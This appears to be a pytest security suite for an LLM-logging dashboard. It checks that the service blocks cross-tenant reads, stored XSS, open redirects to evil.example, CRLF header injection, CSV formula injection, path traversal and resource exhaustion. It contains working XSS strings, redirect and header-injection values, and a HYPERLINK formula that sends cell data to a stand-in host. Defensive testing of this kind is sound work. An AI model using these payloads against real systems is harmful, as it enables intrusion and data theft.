"""An attacker's pass over the dashboard: another organization's ids and a forged organization
cookie, a member removed while the live stream is open, stored markup in every field a page
shows, open redirects, header and cookie hygiene, malformed query parameters, low roles, and
streams and bodies big enough to hurt. Plain HTTP against the shared live dashboard, except one
Chromium test that checks stored markup never runs."""

from __future__ import annotations

import base64
import csv
import io
import re
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

import httpx
import orjson
import pytest
from playwright.sync_api import Browser, Dialog

from dashboard_browser import needs_chromium, sign_in, watched_context
from dashboard_harness import OTHER_WORD, PASSWORD, Account, LiveDashboard
from heliograph.domain.access import KeyPermissions, Role
from heliograph.domain.sql_console import MAX_SQL_CHARS
from heliograph.services.audit import SYSTEM

Live = tuple[LiveDashboard, Account, Account]
PAGES = (
    "/",
    "/requests",
    "/sessions",
    "/users",
    "/properties",
    "/cache",
    "/sql",
    "/prompts",
    "/webhooks",
    "/alerts",
    "/settings",
)
SETTINGS_TABS = ("organization", "api-keys", "vault", "limits", "audit")
MARKUP = "<img src=x onerror=alert(1)>"
ATTRIBUTE = '"><svg onload=alert(2)>'
PAYLOAD = f"{ATTRIBUTE}{MARKUP}"
# A cursor of the right shape whose id is a number, not a string.
NUMBER_ID_CURSOR = base64.urlsafe_b64encode(b'["2026-01-01 00:00:00.000",5]').decode()


# ---- Helpers ----------------------------------------------------------------------------------


@contextmanager
def signed_in(live: LiveDashboard, email: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=live.url, follow_redirects=False, timeout=30) as client:
        response = client.post("/v1/auth/login", json={"email": email, "password": PASSWORD})
        assert response.status_code == 200, response.text
        yield client


def log_request(
    live: LiveDashboard,
    account: Account,
    request_body: Any,
    response_body: Any,
    user_id: str = "",
    properties: dict[str, str] | None = None,
    model: str = "gpt-4o-mini",
) -> str:
    """One request logged through `/v1/log/request` (bodies exactly as given); its id once the
    dashboard can read it."""
    request_id = str(uuid.uuid4())
    now = datetime.now(UTC)
    message = {
        "log": {
            "request": {
                "id": request_id,
                "userId": user_id,
                "properties": properties or {},
                "targetUrl": "https://api.openai.com",
                "provider": "OPENAI",
                "path": "/v1/chat/completions",
                "requestCreatedAt": now.isoformat(),
                "isStream": False,
                "body": request_body,
            },
            "response": {
                "id": request_id,
                "status": 200,
                "delayMs": 12,
                "responseCreatedAt": (now + timedelta(milliseconds=12)).isoformat(),
                "promptTokens": 3,
                "completionTokens": 4,
                "model": model,
                "body": response_body,
            },
        }
    }
    response = httpx.post(
        live.url + "/v1/log/request",
        content=orjson.dumps(message),
        headers={"Authorization": f"Bearer {account.api_key}", "Content-Type": "application/json"},
        timeout=120,
    )
    assert response.status_code == 202, response.text
    account.request_ids.append(request_id)
    live.wait_for(account, request_id)
    return request_id


def assert_inert(html: str, where: str) -> None:
    """No stored markup survives as markup, no data-made URL is a script or an HTML document."""
    for live_markup in ("<img src=x", "<svg onload", "<script>alert", 'onmouseover="alert'):
        assert live_markup not in html, f"{where}: {live_markup!r} is live markup"
    dangerous = re.search(
        r'(href|src)\s*=\s*"?\s*(javascript:|data:text/html|data:image/svg)', html, re.I
    )
    assert dangerous is None, f"{where}: {dangerous.group(0) if dangerous else ''}"


def live_url(html: str) -> str:
    found = re.search(r'<script type="application/json" id="live-data">(.*?)</script>', html, re.S)
    assert found, "the request list has no live-data block"
    url: str = orjson.loads(found.group(1))["url"]
    return url


def read_events(response: httpx.Response, seconds: float) -> Iterator[str]:
    """The stream's lines for `seconds` (the server sends a comment every second when idle)."""
    deadline = time.monotonic() + seconds
    for line in response.iter_lines():
        yield line
        if time.monotonic() > deadline:
            return


def status_of(client: httpx.Client, url: str) -> int:
    return client.get(url).status_code


@pytest.fixture(scope="module")
def acme_client(live_dashboard: Live) -> Iterator[httpx.Client]:
    live, acme, _ = live_dashboard
    with signed_in(live, acme.email) as client:
        yield client


# ---- Tenant isolation -------------------------------------------------------------------------


def test_another_organizations_ids_show_nothing_of_it(
    acme_client: httpx.Client, live_dashboard: Live
) -> None:
    _, _, other = live_dashboard
    foreign = other.request_ids[0]
    response = acme_client.get(f"/requests/{foreign}")
    assert response.status_code == 404
    assert OTHER_WORD not in response.text
    for url in (
        "/users/mallory",
        "/properties?key=Secret-Project",
        "/requests?range=90d&q=" + OTHER_WORD,
        "/requests?range=90d&filter="
        + quote(orjson.dumps({"field": "user_id", "op": "equals", "value": "mallory"}).decode()),
        "/sessions?range=90d&q=mallory",
        "/sql?q=" + quote("SELECT request_id, user_id FROM request_response"),
    ):
        response = acme_client.get(url)
        assert response.status_code < 500, url
        assert foreign not in response.text, url
        assert ">hidden<" not in response.text, url  # the other's property value
    for url in (
        f"/requests/export?range=90d&format=jsonl&q={OTHER_WORD}",
        "/requests/export?range=90d&format=csv",
        "/sql/download?q=" + quote("SELECT request_id, user_id FROM request_response"),
    ):
        response = acme_client.get(url)
        assert response.status_code == 200, url
        assert foreign not in response.text, url
        assert "mallory" not in response.text, url


def test_the_live_stream_sends_only_the_viewers_organization(
    acme_client: httpx.Client, live_dashboard: Live
) -> None:
    _, acme, other = live_dashboard
    html = acme_client.get("/requests?range=90d").text
    url = _with_old_cursor(live_url(html))  # every request of the range is "new" to it
    seen = ""
    with acme_client.stream("GET", url) as response:
        assert response.status_code == 200
        for line in read_events(response, 4):
            seen += line
            if acme.request_ids[0] in seen:
                break
    assert acme.request_ids[0] in seen  # the stream works
    assert all(request_id not in seen for request_id in other.request_ids)


def _range_start() -> str:
    moment = (datetime.now(UTC) - timedelta(days=89)).strftime("%Y-%m-%d %H:%M:%S.000")
    return base64.urlsafe_b64encode(
        orjson.dumps([moment, "00000000-0000-0000-0000-000000000000"])
    ).decode()


def test_a_forged_organization_cookie_still_shows_ones_own_organization(
    live_dashboard: Live,
) -> None:
    live, acme, other = live_dashboard
    with signed_in(live, acme.email) as client:
        client.cookies.set("heliograph_org", other.organization_id)
        for url in (*PAGES, *(f"/settings?tab={tab}" for tab in SETTINGS_TABS)):
            response = client.get(url)
            assert response.status_code == 200, url
            assert f'name="organization-id" content="{acme.organization_id}"' in response.text
            assert other.organization_id not in response.text, url
            assert OTHER_WORD not in response.text, url
            assert "mallory" not in response.text, url
        export = client.get("/requests/export?range=90d&format=jsonl")
        assert all(request_id not in export.text for request_id in other.request_ids)


def test_a_removed_member_loses_the_pages_and_the_open_live_stream(live_dashboard: Live) -> None:
    live, _, _ = live_dashboard
    services = live.running.services  # type: ignore[union-attr]
    owner = live.account("stream-owner@attack.test", "Stream Org")
    email = "stream-viewer@attack.test"
    user_id, _ = services.accounts.create_user(email, PASSWORD, owner.organization_id, Role.VIEWER)
    chat = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "first"}]}
    answer = {"choices": [{"index": 0, "message": {"role": "assistant", "content": "ok"}}]}
    log_request(live, owner, chat, answer)
    with signed_in(live, email) as client:
        url = live_url(client.get("/requests?range=24h").text)
        with client.stream("GET", url) as response:
            assert response.status_code == 200
            events = read_events(response, 30)
            assert next(events).startswith("retry")
            while_member = log_request(live, owner, chat, answer)
            seen = ""
            for line in events:
                seen += line
                if while_member in seen:
                    break
            assert while_member in seen  # the stream delivers while they are a member
            services.organizations.remove_member(owner.organization_id, user_id, Role.OWNER, SYSTEM)
            after_removal = log_request(live, owner, chat, answer)
            seen = ""
            deadline = time.monotonic() + 5
            for line in events:
                seen += line
                if after_removal in seen or time.monotonic() > deadline:
                    break
        assert after_removal not in seen, "a removed member still receives the organization's rows"
        assert client.get("/requests").status_code == 403
        assert client.get(f"/requests/{after_removal}").status_code == 403


# ---- Stored markup ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile(live_dashboard: Live) -> tuple[Account, str, str]:
    """An organization whose every name, id and body carries markup: (account, request id,
    session id)."""
    live, _, _ = live_dashboard
    services = live.running.services  # type: ignore[union-attr]
    account = live.account("hostile@attack.test", f"Org {PAYLOAD}")
    services.keys.create_key(account.organization_id, f"key {PAYLOAD}")
    session_id = f"session-{PAYLOAD}"
    properties = {
        PAYLOAD: PAYLOAD,
        "Helicone-Session-Id": session_id,
        "Helicone-Session-Name": f"name {PAYLOAD}",
        "Helicone-Session-Path": f"/path/{PAYLOAD}",
    }
    images = (
        "javascript:alert(3)",
        "data:text/html,<script>alert(4)</script>",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNSk+",
        'http://x.example/" onmouseover="alert(6)',
    )
    request_body = {
        "model": PAYLOAD,
        "messages": [
            {"role": PAYLOAD, "content": PAYLOAD},
            {
                "role": "user",
                "content": [
                    {"type": "text", "text": PAYLOAD},
                    *({"type": "image_url", "image_url": {"url": url}} for url in images),
                ],
            },
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": PAYLOAD,
                        "type": "function",
                        "function": {
                            "name": PAYLOAD,
                            "arguments": orjson.dumps({"a": PAYLOAD}).decode(),
                        },
                    }
                ],
            },
            {"role": "tool", "tool_call_id": PAYLOAD, "content": PAYLOAD},
        ],
    }
    response_body = {
        "model": PAYLOAD,
        "choices": [{"index": 0, "message": {"role": "assistant", "content": PAYLOAD}}],
    }
    request_id = log_request(
        live, account, request_body, response_body, PAYLOAD, properties, model=PAYLOAD
    )
    scored = httpx.post(
        f"{live.url}/v1/request/{request_id}/score",
        json={"scores": {f"score {PAYLOAD}": 1}},
        headers={"Authorization": f"Bearer {account.api_key}"},
    )
    assert scored.status_code == 201, scored.text
    return account, request_id, session_id


def hostile_pages(request_id: str, session_id: str) -> list[str]:
    everything = ",".join(
        [
            *("created_at", "status", "model", "provider", "user", "path", "session", "cached"),
            *("request", "response", "latency", "cost"),
            f"property:{PAYLOAD}",
            f"score:score {PAYLOAD}",
        ]
    )
    model_filter = {"field": "model", "op": "equals", "value": PAYLOAD}
    return [
        "/?range=24h",
        "/requests?range=24h",
        f"/requests?range=24h&cols={quote(everything)}",
        f"/requests?range=24h&filter={quote(orjson.dumps(model_filter).decode())}",
        f"/requests?range=24h&q={quote(PAYLOAD)}",
        f"/requests?filter={quote(PAYLOAD)}",
        f"/requests?cols={quote(PAYLOAD)}",
        f"/requests/{request_id}",
        "/sessions?range=24h",
        f"/sessions/{quote(session_id, safe='')}?range=24h",
        "/users?range=24h",
        f"/users/{quote(PAYLOAD, safe='')}?range=24h",
        "/properties?range=24h",
        f"/properties?range=24h&key={quote(PAYLOAD)}",
        "/cache?range=24h",
        *(f"/settings?tab={tab}" for tab in SETTINGS_TABS),
        "/sql?q=" + quote(f"SELECT '{PAYLOAD}' AS x"),
        "/sql?q=" + quote(f"SELECT 1 AS `{MARKUP}`"),
        "/sql?q=" + quote(f"SELECT {MARKUP}"),
        "/sql?q=" + quote("SELECT request_id, user_id, properties FROM request_response"),
        f"/login?next={quote('/' + PAYLOAD)}",
    ]


def test_stored_markup_is_text_on_every_page(
    hostile: tuple[Account, str, str], live_dashboard: Live
) -> None:
    live, _, _ = live_dashboard
    account, request_id, session_id = hostile
    with signed_in(live, account.email) as client:
        for url in hostile_pages(request_id, session_id):
            response = client.get(url)
            assert response.status_code < 500, url
            assert_inert(response.text, url)
        detail = client.get(f"/requests/{request_id}").text
        assert "&lt;img src=x onerror=alert(1)&gt;" in detail  # shown, as text
        assert "<code>javascript:alert(3)</code>" in detail  # a link only for http(s)
        for url in (
            "/requests/export?range=24h&format=jsonl",
            "/requests/export?range=24h&format=csv",
        ):
            response = client.get(url)
            assert response.headers["content-type"].startswith(("application/x-ndjson", "text/csv"))
            assert "attachment" in response.headers["content-disposition"]


@needs_chromium
def test_stored_markup_never_runs_in_a_browser(
    chromium: Browser, hostile: tuple[Account, str, str], live_dashboard: Live
) -> None:
    live, _, _ = live_dashboard
    account, request_id, session_id = hostile
    context, watched = watched_context(chromium)
    dialogs: list[str] = []
    sign_in(context, live, account.email)
    page = context.new_page()

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    shown = hostile_pages(request_id, session_id)
    for url in (shown[2], shown[7], shown[9], shown[11], shown[15], shown[16], shown[20]):
        page.goto(live.url + url)
        page.wait_for_load_state("load")
        page.mouse.move(400, 400)
    detail = live.url + f"/requests/{request_id}"
    page.goto(detail)
    assert page.get_by_text(MARKUP).count() > 0
    context.close()
    watched.console_errors = [e for e in watched.console_errors if "status of 4" not in e]
    assert dialogs == []
    watched.check()


def test_ids_with_dots_and_slashes_link_to_their_own_pages(live_dashboard: Live) -> None:
    """A user or session id is one path segment in a link: `../settings` must not become a
    link to another page of the dashboard."""
    live, _, _ = live_dashboard
    account = live.account("slash@attack.test", "Slash Org")
    chat = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}
    session = {"Helicone-Session-Id": "../../sql", "Helicone-Session-Name": "dots"}
    request_id = log_request(live, account, chat, {"choices": []}, "../settings", session)
    with signed_in(live, account.email) as client:
        for url in (
            "/?range=24h",
            "/users?range=24h",
            "/sessions?range=24h",
            f"/requests/{request_id}",
        ):
            html = client.get(url).text
            assert not re.search(r'href="/(users|sessions)/\.\./', html), url
        assert client.get("/users/..%2Fsettings?range=24h").status_code == 200
        assert client.get("/sessions/..%2F..%2Fsql?range=24h").status_code == 200


# ---- Redirects, headers, cookies --------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [
        "//evil.example/x",
        "/\\evil.example",
        "/%5Cevil.example",
        "/\t/evil.example",
        "/%09/evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/ok\r\nSet-Cookie: planted=1",
        "\\\\evil.example",
        "/%2F%2Fevil.example",
    ],
)
def test_sign_in_never_sends_anyone_to_another_site(acme_client: httpx.Client, target: str) -> None:
    response = acme_client.get("/login", params={"next": target})
    assert response.status_code == 303
    location = response.headers["location"]
    assert location.startswith("/")
    assert not location.startswith(("//", "/\\"))  # "/%5C" stays a path: browsers keep it
    assert not any(character.isspace() or ord(character) < 32 for character in location)
    assert "planted" not in response.headers.get("set-cookie", "")


def test_the_sign_in_redirect_carries_no_header_injection(live_dashboard: Live) -> None:
    live, _, _ = live_dashboard
    with httpx.Client(base_url=live.url, follow_redirects=False) as client:
        response = client.get("/requests/%0d%0aSet-Cookie:%20planted=1")
        assert response.status_code == 303
        assert "planted" not in response.headers.get("set-cookie", "")
        assert "\n" not in response.headers["location"]
        response = client.get("//evil.example/requests")
        assert response.status_code in (303, 404)
        login = client.get(response.headers.get("location", "/login")).text
        assert 'data-next="/"' in login or "evil.example" not in login


def test_cookies_and_security_headers_stop_framing_and_cross_site_use(
    acme_client: httpx.Client, live_dashboard: Live
) -> None:
    live, acme, _ = live_dashboard
    login = httpx.post(
        live.url + "/v1/auth/login", json={"email": acme.email, "password": PASSWORD}
    )
    cookies = {c.split("=", 1)[0]: c.lower() for c in login.headers.get_list("set-cookie")}
    assert "httponly" in cookies["heliograph_session"]
    assert "samesite=lax" in cookies["heliograph_session"]  # no cross-site <img> export
    assert "samesite=lax" in cookies["heliograph_csrf"]
    html = acme_client.get("/requests?range=24h").text
    urls = ["/", "/requests/export?format=csv", "/sql/download?q=SELECT%201", live_url(html)]
    for url in urls:
        with acme_client.stream("GET", url) as response:
            assert "frame-ancestors 'none'" in response.headers["content-security-policy"], url
            assert "script-src" not in response.headers["content-security-policy"] or (
                "unsafe-inline" not in response.headers["content-security-policy"]
            )
            assert response.headers["x-frame-options"] == "DENY", url
            assert response.headers["x-content-type-options"] == "nosniff", url


def test_downloads_are_never_cached(acme_client: httpx.Client) -> None:
    for url in (
        "/requests/export?range=24h&format=jsonl",
        "/requests/export?range=24h&format=csv",
        "/sql/download?q=SELECT%201",
    ):
        response = acme_client.get(url)
        assert response.status_code == 200
        assert "no-store" in response.headers.get("cache-control", ""), url


def test_a_get_changes_nothing_but_the_audited_downloads(acme_client: httpx.Client) -> None:
    """The pages are reads: a cross-site link can make someone load them, never change data."""
    for url in ("/login", "/logout", "/invite?token=x", "/signup", "/reset-password?token=x"):
        assert acme_client.get(url).status_code in (200, 303, 404), url
    assert acme_client.get("/settings").status_code == 200  # still signed in


def test_exported_csv_cells_cannot_run_as_spreadsheet_formulas(live_dashboard: Live) -> None:
    live, _, _ = live_dashboard
    account = live.account("formula@attack.test", "Formula Org")
    chat = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "=1+1"}]}
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    log_request(live, account, chat, {"choices": []}, user_id=formula)
    with signed_in(live, account.email) as client:
        text = client.get("/requests/export?range=24h&format=csv").text
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")], "a cell is a formula"


# ---- Bad input --------------------------------------------------------------------------------


def deep_filter(levels: int) -> str:
    return '{"and":[' * levels + '{"field":"model","op":"equals","value":"x"}' + "]}" * levels


BAD_URLS = [
    "/requests?filter=%7B",
    "/requests?filter=" + quote('{"and": "x"}'),
    "/requests?filter=" + quote(deep_filter(9)),
    "/requests?filter=" + quote(deep_filter(1500)),
    "/requests?filter=" + quote('{"field":"nope","op":"equals","value":1}'),
    "/requests?filter=" + quote('{"field":"latency","op":"gt","value":"x"}'),
    "/requests?filter=" + quote('{"field":"model","op":"equals","value":{"a":[1,2]}}'),
    "/requests?filter=" + "x" * 20_001,
    "/requests?limit=-1",
    "/requests?limit=0",
    "/requests?limit=201",
    "/requests?limit=%C2%B2",  # a superscript two: isdigit() but not int()
    "/requests?limit=" + "9" * 5000,  # more digits than int() takes
    "/requests?offset=-5",
    "/requests?sort=latency&offset=99999999",
    "/requests?sort=latency&offset=%D9%A1%C2%B2",
    "/requests?cursor=zzz",
    "/requests?cursor=" + NUMBER_ID_CURSOR,
    "/requests?sort=nope",
    "/requests?cols=nope",
    "/requests?cols=property:" + "a" * 300,
    "/requests?cols=" + ",".join(f"property:k{i}" for i in range(41)),
    "/requests?range=custom&start=nonsense",
    "/requests?range=custom&start=2026-01-02&end=2026-01-01",
    "/requests?range=custom&start=0001-01-01T00:00:00%2B14:00&end=0001-01-02",
    "/requests?q=" + "a" * 5000,
    "/requests/live",
    "/requests/live?after=zzz",
    "/requests/live?after=" + NUMBER_ID_CURSOR,
    "/requests/export?format=xml",
    "/requests/export?format=csv&filter=%7B",
    "/requests/" + "a" * 5000,
    "/requests/%ff",
    "/requests/%ED%A0%80",
    "/requests/%00",
    "/sessions?page=-1",
    "/sessions?page=%C2%B2",
    "/sessions?min_requests=%C2%B2",
    "/sessions?min_cost=nan",
    "/sessions?min_cost=inf",
    "/sessions?sort=nope",
    "/users?page=%C2%B2",
    "/users?page=0",
    "/users?sort=nope&dir=sideways",
    "/properties?key=" + "a" * 5000,
    "/settings?tab=nope",
    "/settings?tab=audit&cursor=zzz",
    "/settings?tab=audit&action=%00",
    "/settings?tab=audit&action=" + "a" * 65,
    "/sql?q=" + "1" * (MAX_SQL_CHARS + 1),
    "/sql/download?q=" + quote("DROP TABLE request_response"),
    "/sql/download?q=",
    "/static/..%2F..%2Fpyproject.toml",
    "/static/%2e%2e%2fapp.py",
    "/static/" + "a" * 5000,
    "/login?next=" + "a" * 5000,
]
# Odd but harmless: pages that may answer 200 (an empty page) or 404.
ODD_URLS = [
    "/requests?q=%ff",
    "/requests?q=%ED%A0%80",
    "/requests?q=%00",
    "/requests?q=" + quote(PAYLOAD),
    "/sessions/" + "a" * 5000,
    "/sessions/%ED%A0%80",
    "/sessions/%00",
    "/users/" + "a" * 5000,
    "/users/%ff%00",
    "/users?q=%00",
    "/properties?key=%00",
    "/requests?range=custom&start=0001-01-01&end=0001-01-02",
    "/?range=custom&start=0001-01-01T00:00:00%2B14:00&end=0001-01-02",
    "/sessions?range=custom&start=0001-01-01T00:00:00%2B14:00&end=0001-01-02",
    "/requests?range=custom&start=1000-01-01&end=9999-12-31",
    "/?range=custom&start=0001-01-01&end=9999-12-31",
]


@pytest.mark.parametrize("url", BAD_URLS, ids=lambda url: url[:70])
def test_bad_input_is_a_4xx_page(acme_client: httpx.Client, url: str) -> None:
    started = time.monotonic()
    response = acme_client.get(url)
    assert 400 <= response.status_code < 500, f"{response.status_code}: {response.text[:300]}"
    assert time.monotonic() - started < 10
    # A page answers with a page, not the API's JSON (NUL is refused before any route: JSON).
    if not url.startswith("/static/") and "%00" not in url:
        assert response.headers["content-type"].startswith("text/html"), response.text[:300]


def test_api_keys_open_no_page_and_after_every_bad_input_the_gateway_still_logs(
    live_dashboard: Live,
) -> None:
    """Pages take a person's session only: a key, read-only or not, is sent to sign in and sees
    nothing. After the bad input above, a request sent through the gateway is still stored."""
    live, acme, _ = live_dashboard
    services = live.running.services  # type: ignore[union-attr]
    read_only = services.keys.create_key(acme.organization_id, "ro", KeyPermissions.READ).api_key
    with httpx.Client(base_url=live.url, follow_redirects=False, timeout=30) as client:
        for key in (read_only, acme.api_key):
            for path in (*PAGES, "/requests/export", "/requests/live", "/sql/download?q=SELECT+1"):
                response = client.get(path, headers={"Authorization": f"Bearer {key}"})
                assert response.status_code == 303, path
                assert response.headers["location"].startswith("/login?next=")
                assert OTHER_WORD not in response.text
                assert "gpt-4o" not in response.text
    chat = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "still logging"}]}
    request_id = live.send(acme, "/openai/v1/chat/completions", chat)
    live.wait_for(acme, request_id)


@pytest.mark.parametrize("url", ODD_URLS, ids=lambda url: url[:70])
def test_odd_input_is_never_a_server_error(acme_client: httpx.Client, url: str) -> None:
    started = time.monotonic()
    response = acme_client.get(url)
    assert response.status_code in (200, 400, 404), f"{response.status_code}: {response.text[:300]}"
    assert time.monotonic() - started < 10


def test_a_100_kb_query_string_is_refused_and_the_service_goes_on(
    acme_client: httpx.Client, live_dashboard: Live
) -> None:
    live, _, _ = live_dashboard
    host, port = live.url.removeprefix("http://").split(":")
    cookie = "; ".join(f"{name}={value}" for name, value in acme_client.cookies.items())
    with socket.create_connection((host, int(port)), timeout=10) as opened:
        path = "/requests?q=" + "a" * 100_000
        opened.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\n\r\n".encode())
        try:
            head = opened.recv(200).decode(errors="replace")
        except ConnectionResetError:
            head = ""  # the HTTP server closed the connection: a refusal too
    assert head == "" or head.split(" ")[1].startswith("4"), head
    assert acme_client.get("/healthz").status_code == 200
    assert acme_client.get("/requests?range=24h").status_code == 200


def test_a_filter_of_nearly_200_conditions_is_answered(acme_client: httpx.Client) -> None:
    """The builder's filter plus the page's two time conditions: at most 200 in all."""
    for count, status in ((198, 200), (200, 400)):
        conditions = [
            {"field": "model", "op": "not-equals", "value": f"m{i}"} for i in range(count)
        ]
        text = orjson.dumps({"and": conditions}).decode()
        started = time.monotonic()
        response = acme_client.get("/requests", params={"filter": text, "range": "24h"})
        assert response.status_code == status, re.findall(r'role="alert">(.*?)<', response.text)
        assert time.monotonic() - started < 10


# ---- Roles ------------------------------------------------------------------------------------


def test_low_roles_see_no_secrets_and_no_write_controls(live_dashboard: Live) -> None:
    live, _, _ = live_dashboard
    services = live.running.services  # type: ignore[union-attr]
    owner = live.account("roles-owner@attack.test", "Roles Org")
    org = owner.organization_id
    key = services.keys.create_key(org, "roles-secret-key-name")
    invitation = services.organizations.invite(org, "invitee@attack.test", Role.MEMBER, SYSTEM)
    token = invitation.link.rsplit("=", 1)[-1]
    services.accounts.create_user("roles-viewer@attack.test", PASSWORD, org, Role.VIEWER)
    services.accounts.create_user("roles-member@attack.test", PASSWORD, org, Role.MEMBER)
    chat = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}
    request_id = log_request(live, owner, chat, {"choices": []})

    with signed_in(live, owner.email) as client:
        assert "roles-secret-key-name" in client.get("/settings?tab=api-keys").text
        assert "member.add" in client.get("/settings?tab=audit").text
    for email in ("roles-viewer@attack.test", "roles-member@attack.test"):
        with signed_in(live, email) as client:
            pages = {tab: client.get(f"/settings?tab={tab}").text for tab in SETTINGS_TABS}
            everything = "".join(pages.values())
            assert token not in everything, email
            assert "invitee@attack.test" not in everything, email
            assert "roles-secret-key-name" not in everything, email
            assert key.api_key[12:24] not in everything, email  # its random part
            assert "member.add" not in pages["audit"], email
            assert owner.api_key[12:24] not in everything, email
            detail = client.get(f"/requests/{request_id}").text
            if email.startswith("roles-viewer"):
                assert "data-score-form" not in detail
                assert detail.count("disabled") >= 2  # the feedback buttons


# ---- Resource exhaustion ----------------------------------------------------------------------


def test_many_never_reading_live_streams_do_not_stop_the_service(
    acme_client: httpx.Client, live_dashboard: Live
) -> None:
    live, _, _ = live_dashboard
    url = live_url(acme_client.get("/requests?range=24h").text)
    cookie = "; ".join(f"{name}={value}" for name, value in acme_client.cookies.items())
    host, port = live.url.removeprefix("http://").split(":")
    sockets = []
    try:
        for _ in range(40):
            opened = socket.create_connection((host, int(port)), timeout=5)
            request = f"GET {url} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\n\r\n"
            opened.sendall(request.encode())
            sockets.append(opened)
        time.sleep(3)
        started = time.monotonic()
        assert acme_client.get("/healthz").status_code == 200
        assert acme_client.get("/requests?range=24h").status_code == 200
        assert time.monotonic() - started < 5, "40 open streams slow every page down"
    finally:
        for opened in sockets:
            opened.close()


def test_huge_bodies_render_bounded_pages(live_dashboard: Live) -> None:
    live, _, _ = live_dashboard
    account = live.account("huge@attack.test", "Huge Org")
    many = {
        "model": "gpt-4o-mini",
        "messages": [{"role": "user", "content": f"m{i}"} for i in range(100_000)],
    }
    big = {"choices": [{"index": 0, "message": {"role": "assistant", "content": "x" * 4_000_000}}]}
    request_id = log_request(live, account, many, big)
    with signed_in(live, account.email) as client:
        for url in (f"/requests/{request_id}", "/requests?range=24h&cols=request,response"):
            started = time.monotonic()
            response = client.get(url)
            assert response.status_code == 200, url
            assert len(response.content) < 3_000_000, url
            assert time.monotonic() - started < 10, url


def test_deeply_nested_bodies_do_not_break_the_list_or_the_request_page(
    live_dashboard: Live,
) -> None:
    live, _, _ = live_dashboard
    account = live.account("deep@attack.test", "Deep Org")
    depth = 300  # deeper than orjson writes (254), shallower than it reads (1024)
    nested = '{"a":' * depth + "1" + "}" * depth
    # Sent as a string so that the log endpoint stores it as is; the dashboard reads it as JSON.
    request_id = log_request(live, account, nested, nested)
    with signed_in(live, account.email) as client:
        for url in (f"/requests/{request_id}", "/requests?range=24h"):
            response = client.get(url)
            assert response.status_code == 200, f"{url}: {response.status_code}"
        html = client.get("/requests?range=24h").text
        with client.stream("GET", _with_old_cursor(live_url(html))) as stream:
            assert stream.status_code == 200
            text = "".join(read_events(stream, 3))
        assert request_id in text, "the live stream breaks on a deeply nested body"


def _with_old_cursor(url: str) -> str:
    return re.sub(r"after=[^&]*", "after=" + quote(_range_start()), url)


def test_the_service_answers_while_an_export_of_everything_streams(
    acme_client: httpx.Client,
) -> None:
    done = threading.Event()

    def export() -> None:
        with acme_client.stream("GET", "/requests/export?range=90d&format=jsonl") as response:
            for _ in response.iter_bytes():
                pass
        done.set()

    worker = threading.Thread(target=export)
    worker.start()
    started = time.monotonic()
    assert httpx.get(str(acme_client.base_url) + "/healthz").status_code == 200
    assert time.monotonic() - started < 5
    worker.join(30)
    assert done.is_set()
